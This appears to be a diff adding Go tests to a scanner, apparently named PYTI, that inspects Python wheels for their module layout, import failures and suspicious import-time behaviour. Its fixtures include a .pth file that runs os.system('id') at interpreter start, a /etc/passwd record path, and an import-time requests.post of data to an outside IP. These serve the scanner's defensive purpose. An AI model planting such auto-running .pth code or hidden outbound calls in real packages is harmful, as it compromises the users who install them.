@@ -1,0 +1,176 @@
+package tasks
+
+import (
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
+	"github.com/pyti/pyti/internal/report"
+)
+
+func TestFindModules(t *testing.T) {
+	for _, tc := range []struct {
+		name     string
+		files    []string
+		topLevel []string
+		content  map[string]string
+		want     Layout
+	}{
+		{
+			name:  "package and its submodules",
+			files: []string{"demo/__init__.py", "demo/core.py", "demo/sub/__init__.py", "demo/sub/x.py", "demo/tests/test_a.py", "demo/__main__.py", "demo/data.json", "demo-1.0.dist-info/METADATA", "demo-1.0.dist-info/RECORD"},
+			want:  Layout{Modules: []string{"demo"}, Submodules: []string{"demo.core", "demo.sub", "demo.sub.x"}},
+		},
+		{
+			name:  "single module and extension modules",
+			files: []string{"six.py", "_speedups.cpython-311-x86_64-linux-gnu.so", "_old.abi3.so", "six-1.0.dist-info/RECORD"},
+			want:  Layout{Modules: []string{"_old", "_speedups", "six"}},
+		},
+		{
+			name:     "PEP 420 namespace package",
+			files:    []string{"jaraco/functools/__init__.py", "jaraco/functools/__init__.pyi", "jaraco/functools/py.typed", "jaraco.functools-4.0.dist-info/top_level.txt"},
+			topLevel: []string{"jaraco"},
+			want:     Layout{Modules: []string{"jaraco.functools"}},
+		},
+		{
+			name:    "pkg_resources-style namespace package",
+			files:   []string{"zope/__init__.py", "zope/interface/__init__.py", "zope/interface/ro.py", "zope.interface-1-nspkg.pth"},
+			content: map[string]string{"zope/__init__.py": "__import__('pkg_resources').declare_namespace(__name__)\n", "zope.interface-1-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5)\n"},
+			want:    Layout{Modules: []string{"zope.interface"}, Submodules: []string{"zope.interface.ro"}, Pth: []string{"zope.interface-1-nspkg.pth"}},
+		},
+		{
+			name:    "pkgutil-style namespace package with a module portion",
+			files:   []string{"ns/__init__.py", "ns/part.py"},
+			content: map[string]string{"ns/__init__.py": "from pkgutil import extend_path\n__path__ = extend_path(__path__, __name__)\n"},
+			want:    Layout{Modules: []string{"ns.part"}},
+		},
+		{
+			name:  "not importable by name",
+			files: []string{"my-pkg/__init__.py", "my-pkg/evil.py", "my-mod.py", "odd dir/run.py", "odd dir/sub/x.py"},
+			want:  Layout{ByLocation: []string{"my-mod.py", "my-pkg/", "odd dir/run.py"}},
+		},
+		{
+			name:    "a .pth file adds a directory",
+			files:   []string{"src/hidden/__init__.py", "demo.pth"},
+			content: map[string]string{"demo.pth": "src\n"},
+			want:    Layout{Modules: []string{"hidden"}},
+		},
+		{
+			name:  "purelib data and odd RECORD paths",
+			files: []string{"demo-1.0.data/purelib/demo.py", "demo-1.0.data/scripts/run", "../../bin/tool", "/etc/passwd", "demo/__pycache__/x.cpython-311.pyc"},
+			want:  Layout{Modules: []string{"demo"}},
+		},
+		{
+			name:  "data only",
+			files: []string{"share/readme.txt", "demo-1.0.dist-info/RECORD"},
+			want:  Layout{Why: "the wheel installs no Python module or extension into site-packages (only share/readme.txt)"},
+		},
+		{
+			name:    "only a .pth with import lines",
+			files:   []string{"evil.pth", "demo-1.0.dist-info/RECORD"},
+			content: map[string]string{"evil.pth": "import os; os.system('id')\n"},
+			want:    Layout{Pth: []string{"evil.pth"}, Why: "the wheel ships no module, only .pth files (evil.pth), which run at every interpreter start"},
+		},
+		{
+			name:     "top_level.txt names a module RECORD does not list",
+			files:    []string{"demo-1.0.dist-info/RECORD", "other.py", "hidden.py"},
+			topLevel: []string{"hidden", "missing", "not-an-identifier"},
+			want:     Layout{Modules: []string{"hidden", "other"}},
+		},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			read := func(p string) []byte {
+				if c, ok := tc.content[p]; ok {
+					return []byte(c)
+				}
+				return nil
+			}
+			got := findModules(tc.files, tc.topLevel, read)
+			if diff := cmp.Diff(tc.want, got, cmpopts.EquateEmpty()); diff != "" {
+				t.Errorf("layout (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestRecordPaths(t *testing.T) {
+	data := []byte("demo/__init__.py,sha256=abc,10\n\"odd,name.py\",sha256=def,3\ndemo-1.0.dist-info/RECORD,,\n")
+	want := []string{"demo/__init__.py", "odd,name.py", "demo-1.0.dist-info/RECORD"}
+	if diff := cmp.Diff(want, recordPaths(data)); diff != "" {
+		t.Errorf("paths (-want +got):\n%s", diff)
+	}
+}
+
+func TestJudgeImport(t *testing.T) {
+	ok := func(name, how string) report.Module { return report.Module{Name: name, OK: true, How: how} }
+	for _, tc := range []struct {
+		name   string
+		layout Layout
+		mods   []report.Module
+		want   importOutcome
+	}{
+		{"all imported", Layout{Modules: []string{"a", "b"}}, []report.Module{ok("a", "name"), ok("b", "name")}, importOutcome{}},
+		{
+			"undeclared dependency, ran with stand-ins", Layout{Modules: []string{"a"}},
+			[]report.Module{{Name: "a", How: "name", Error: "Traceback\nModuleNotFoundError: No module named 'requests'", Missing: "requests",
+				StandInPass: &report.StandInPass{OK: true, StandIns: []string{"requests", "requests.adapters"}}}},
+			importOutcome{failed: "1 of 1 modules do not import: a needs requests, which is not installed (an undeclared dependency?); with stand-ins for requests, requests.adapters its import ran to the end"},
+		},
+		{
+			"a failure by location or in the sweep does not fail the import", Layout{Modules: []string{"a"}, ByLocation: []string{"my-pkg/"}},
+			[]report.Module{ok("a", "name"), {Name: "my-pkg/", How: "location", Error: "ValueError: x"}, {Name: "a", How: "sweep", TimedOut: true}},
+			importOutcome{},
+		},
+		{
+			"endless import", Layout{Modules: []string{"slow", "b"}},
+			[]report.Module{{Name: "slow", How: "name", TimedOut: true, Error: "TimeoutExpired: the import did not end within 120 seconds"}, ok("b", "name")},
+			importOutcome{timeout: "import: importing slow did not end within 2m0s", failed: "1 of 2 modules do not import: slow: TimeoutExpired: the import did not end within 120 seconds"},
+		},
+		{
+			"only code not importable by name", Layout{ByLocation: []string{"my-pkg/"}},
+			[]report.Module{ok("my-pkg/", "location")},
+			importOutcome{nothing: "no module is importable by name; PYTI imported by file location what a name cannot reach: my-pkg/ (imported)"},
+		},
+		{"nothing at all", Layout{Why: "the wheel installs no file into site-packages"}, nil, importOutcome{nothing: "the wheel installs no file into site-packages"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			got := judgeImport(tc.layout, tc.mods, 120*time.Second)
+			if diff := cmp.Diff(tc.want, got, cmp.AllowUnexported(importOutcome{})); diff != "" {
+				t.Errorf("outcome (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestImportRan(t *testing.T) {
+	mods := []report.Module{
+		{Name: "a", How: "name", OK: true},
+		{Name: "b", How: "name", Missing: "requests", StandInPass: &report.StandInPass{OK: true, StandIns: []string{"requests", "requests.adapters"}}},
+		{Name: "my-pkg/", How: "location", OK: true, StandIns: []string{"winreg"}},
+		{Name: "a", How: "sweep", OK: true, Swept: 12},
+		{Name: "c", How: "name", Skipped: "out of time"},
+	}
+	want := "import (2 by name, 1 by file location, 12 other modules swept) with stand-ins for requests, winreg; .pth files at every interpreter start (x.pth)"
+	if got := importRan(mods, []string{"x.pth"}); got != want {
+		t.Errorf("importRan = %q, want %q", got, want)
+	}
+	if got := importRan(nil, nil); got != "" {
+		t.Errorf("importRan(nothing) = %q", got)
+	}
+}
+
+func TestStandInFindings(t *testing.T) {
+	mods := []report.Module{
+		{Name: "quiet", How: "name", StandInPass: &report.StandInPass{OK: true, StandInCalls: []string{"requests.Session()"}}},
+		{Name: "loud", How: "name", StandInPass: &report.StandInPass{OK: true, StandInCalls: []string{"requests.post('https://203.0.113.9/c', data='x')", "requests.get.json()"}}},
+	}
+	got := standInFindings(mods)
+	want := []report.Finding{{Source: "behavior", Phase: "import", RuleID: "import-url-via-missing-module", Severity: report.SeverityMedium,
+		Title:   "Import-time call to a URL through a missing module",
+		Message: "Importing loud called a module that is not installed with a URL (https://203.0.113.9/c); PYTI gave it a stand-in, so nothing was sent.",
+		Count:   1, Evidence: []report.Evidence{{Kind: "stand-in-call", Detail: "requests.post('https://203.0.113.9/c', data='x')"}}}}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("findings (-want +got):\n%s", diff)
+	}
+}
